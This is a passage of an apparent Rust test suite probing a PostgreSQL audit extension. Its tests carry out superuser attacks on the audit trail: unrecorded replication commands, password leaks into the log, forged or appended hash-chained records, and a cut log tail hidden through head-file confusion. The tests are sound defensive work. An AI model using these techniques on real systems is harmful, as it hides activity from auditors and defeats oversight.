/// replication commands only through the walsender's "received replication command" LOG
/// report, which PostgreSQL no longer emits — so emit_log_hook never sees it. The login is
/// recorded, the command is not.
/// Defence promised: "Replication commands (IDENTIFY_SYSTEM, BASE_BACKUP, ...) are recorded
/// with their text"; superusers cannot run statements unrecorded.
#[test]
fn replication_command_with_log_min_messages_fatal_is_not_recorded() {
    let cluster = Cluster::shared();
    let m = marker("rv_repl");
    let mut c = cluster.connect("rv_repl_setup");
    let conn = format!(
        "host=/tmp port={} user=postgres dbname=postgres replication=true application_name={m} \
         options='-c log_min_messages=fatal'",
        cluster.port
    );
    let (code, out, err) = psql(&[&conn, "-c", "IDENTIFY_SYSTEM"]);
    assert_eq!(code, 0, "IDENTIFY_SYSTEM: {out}{err}");
    let deadline = std::time::Instant::now() + WAIT;
    let count = |c: &mut Client, command: &str| {
        query_i64(c, "SELECT count(*) FROM custody.audit_log WHERE application_name = $1 AND command = $2", &[&m, &command])
    };
    while count(&mut c, "IDENTIFY_SYSTEM") == 0 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let (logins, commands) = (count(&mut c, "LOGIN"), count(&mut c, "IDENTIFY_SYSTEM"));
    assert_eq!(commands, 1, "IDENTIFY_SYSTEM of a replication connection ({logins} LOGIN record) is not recorded");
}

// ---- 5. secrets ----------------------------------------------------------------------------

/// Attack (superuser, leaking to every auditor): set a role's password inside a DO block
/// written with an ordinary quoted string instead of dollar quotes — `DO 'BEGIN ALTER ROLE r
/// PASSWORD ''secret''; END'` — and, as a variant, in a function body quoted the same way.
/// Only dollar-quoted bodies are searched: the password is stored in the DO's record.
/// Defence promised: role passwords are redacted, "inside ... DO blocks" too; the secret
/// appears in no record.
#[test]
fn password_in_a_quoted_do_block_is_kept() {
    let cluster = Cluster::shared();
    let m = marker("rv_pw");
    let secret = format!("{m}_Hunter2");
    let mut su = cluster.connect("rv_pw");
    let mut cleanup = CleanupOnDrop::new(&cluster);
    cleanup.add(format!("DROP FUNCTION IF EXISTS public.{m}_setpw()"));
    cleanup.add(format!("DROP ROLE IF EXISTS {m}_r"));
    su.batch_execute(&format!("CREATE ROLE {m}_r")).unwrap();
    su.simple_query(&format!("DO 'BEGIN ALTER ROLE {m}_r PASSWORD ''{secret}''; END'")).unwrap();
    su.simple_query(&format!(
        "CREATE FUNCTION public.{m}_setpw() RETURNS void LANGUAGE sql AS 'ALTER ROLE {m}_r PASSWORD ''{secret}'''"
    ))
    .unwrap();
    flush(&mut su);
    let leaks = log_rows_containing(&mut su, &secret);
    assert!(leaks.is_empty(), "the password is in the log: {leaks:#?}");
}

// ---- detected only: what is done with the library unloaded --------------------------------

/// Attack (superuser, library unloaded): insert a forged record with seq 0 (a copy of a real
/// record saying `DROP TABLE public.payroll`), then load the library again. Every query of
/// the log shows it; verify_audit_chain() starts at seq 1 and never reads it.
/// Defence promised: "a record edited, removed, inserted, reordered — verify_audit_chain()
/// names the first bad record".
#[test]
fn forged_record_below_seq_one_is_never_verified() {
    let (cluster, mut c) = own("review_seq0", 63, "rv_seq0");
    c.batch_execute("CREATE TABLE public.rv_t (v int); INSERT INTO public.rv_t VALUES (1)").unwrap();
    flush(&mut c);
    assert_chain_ok(&mut c);
    drop(c);
    cluster.restart_unloaded();
    let mut c = cluster.connect("rv_seq0_unloaded");
    insert_copy(&mut c, 2, 0, Some("DROP TABLE public.payroll"), &[0u8; 32], &[0u8; 32]);
    drop(c);
    cluster.restart_loaded();
    let mut c = cluster.connect("rv_seq0_verify");
    let shown = query_i64(&mut c, "SELECT count(*) FROM custody.audit_log WHERE statement = 'DROP TABLE public.payroll'", &[]);
    assert_eq!(shown, 1, "setup: the forged record is not in the log");
    let v = verify(&mut c);
    assert!(!v.ok || alarm(&mut c).is_some(), "a forged record at seq 0 goes unnoticed: verify {v:?}");
}

/// Attack (superuser, library unloaded): the writer stopped cleanly (its head file says so,
/// at the WRITER STOP record S). Append two forged records after it, correctly chained (the
/// hash is SHA-256 over the previous hash and the documented encoding): S+1 a `DROP TABLE`
/// by another role, S+2 a copy of the WRITER STOP. Load the library again.
/// Defence promised: records inserted while unloaded are found ("a record ... inserted"),
/// and the writer remembers the head it stored: after a clean stop at S nothing can
/// legitimately follow S, so the writer raises an alarm / HEAD MISMATCH, or verification fails.
#[test]
fn records_appended_after_a_clean_stop_are_accepted() {
    let (cluster, mut c) = own("review_tail", 64, "rv_tail");
    c.batch_execute("CREATE ROLE rv_alice LOGIN; CREATE TABLE public.rv_scratch (v int); ALTER TABLE public.rv_scratch OWNER TO rv_alice")
        .unwrap();
    let mut a = cluster.connect_as("rv_alice", "rv_tail_alice");
    a.batch_execute("DROP TABLE public.rv_scratch").unwrap();
    flush(&mut a);
    drop(a);
    let template = query_i64(&mut c, "SELECT max(seq) FROM custody.audit_log WHERE command = 'DROP TABLE'", &[]);
    drop(c);
    cluster.restart_unloaded();
    let mut c = cluster.connect("rv_tail_unloaded");
    let stop = query_i64(&mut c, "SELECT max(seq) FROM custody.audit_log", &[]);
    let (stop_rec, _, stop_hash) = read_record(&mut c, stop);
    assert_eq!(stop_rec.command, "WRITER STOP", "setup: the last record is not the writer's stop");
    // Sanity: the stored hash is what the documented encoding gives.
    let (t, t_prev, t_hash) = read_record(&mut c, template);
    assert_eq!(t.chain_hash(&hash32(&t_prev)).to_vec(), t_hash, "setup: hashing does not match the writer's");
    let forged_text = "DROP TABLE public.payroll";
    let mut forged = t.clone();
    forged.seq = stop + 1;
    forged.statement = Some(forged_text.into());
    forged.statement_sha256 = None;
    let h1 = forged.chain_hash(&hash32(&stop_hash));
    insert_copy(&mut c, template, stop + 1, Some(forged_text), &stop_hash, &h1);
    let mut stop2 = stop_rec.clone();
    stop2.seq = stop + 2;
    let h2 = stop2.chain_hash(&h1);
    insert_copy(&mut c, stop, stop + 2, None, &h1, &h2);
    drop(c);
    cluster.restart_loaded();
    let mut c = cluster.connect("rv_tail_verify");
    flush(&mut c);
    let v = verify(&mut c);
    let (al, hm) = (alarm(&mut c), head_mismatches(&mut c));
    assert!(
        !v.ok || al.is_some() || hm > 0,
        "forged records {}..{} after the clean stop at {stop} accepted: verify {v:?}, alarm {al:?}, HEAD MISMATCH records {hm}",
        stop + 1,
        stop + 2
    );
}

/// Attack (superuser, SQL and restarts only): make the writer overwrite the head it remembers.
/// `ALTER SYSTEM SET custody.database = 'rv_other'`, restart, CREATE EXTENSION pg_custody
/// there: the writer now keeps a head file for rv_other (once $PGDATA/pg_custody.head, the same file). Then reset
/// custody.database, restart unloaded, cut the newest 5 records of postgres' chain (with the
/// ALTER SYSTEM record among them), and restart loaded: the head file names another database
/// of this cluster, so the writer ignores it and remembers nothing.
/// Defence promised: a cut tail is a HEAD MISMATCH record and an alarm, and verification fails
/// at the first missing seq ("A head file whose chain has disappeared makes the writer
/// refuse, not forget").
#[test]
fn head_remembered_for_another_database_forgets_a_cut_tail() {
    let (cluster, mut c) = own("review_headdb", 65, "rv_headdb");
    c.batch_execute("CREATE TABLE public.rv_t (v int)").unwrap();
    for i in 0..10 {
        c.simple_query(&format!("INSERT INTO public.rv_t VALUES ({i})")).unwrap();
    }
    flush(&mut c);
    c.batch_execute("CREATE DATABASE rv_other").unwrap();
    c.batch_execute("ALTER SYSTEM SET custody.database = 'rv_other'").unwrap();
    drop(c);
    cluster.start();
    let other = format!("host=/tmp port={} user=postgres dbname=rv_other application_name=rv_headdb", cluster.port);
    let mut o = Client::connect(&other, NoTls).unwrap();
    o.batch_execute("CREATE EXTENSION pg_custody").unwrap();
    wait_ready(&mut o);
    o.batch_execute("SELECT 1").unwrap();
    flush(&mut o);
    let other_oid: i64 = o
        .query_one("SELECT oid::int8 FROM pg_database WHERE datname = 'rv_other'", &[])
        .unwrap()
        .get(0);
    let file = std::fs::read_to_string(cluster.dir.join(format!("pg_custody.{other_oid}.head"))).unwrap_or_default();
    assert!(
        file.split_whitespace().nth(2) == Some(other_oid.to_string().as_str()),
        "setup: the head file does not name rv_other ({other_oid}): {file:?}"
    );
    o.batch_execute("ALTER SYSTEM RESET custody.database").unwrap();
    drop(o);
    cluster.restart_unloaded();
    let mut c = cluster.connect("rv_headdb_unloaded");
    let head = query_i64(&mut c, "SELECT max(seq) FROM custody.audit_log", &[]);
    let cut = c.execute("DELETE FROM custody.audit_log WHERE seq > $1", &[&(head - 5)]).unwrap();
    assert_eq!(cut, 5);
    drop(c);
    cluster.restart_loaded();
    let mut c = cluster.connect("rv_headdb_verify");
    flush(&mut c);
    let v = verify(&mut c);
    let (al, hm) = (alarm(&mut c), head_mismatches(&mut c));
    assert!(
        !v.ok || al.is_some() || hm > 0,
        "records {}..{head} cut while unloaded go unnoticed: verify {v:?}, alarm {al:?}, HEAD MISMATCH records {hm}",
        head - 4
    );
}

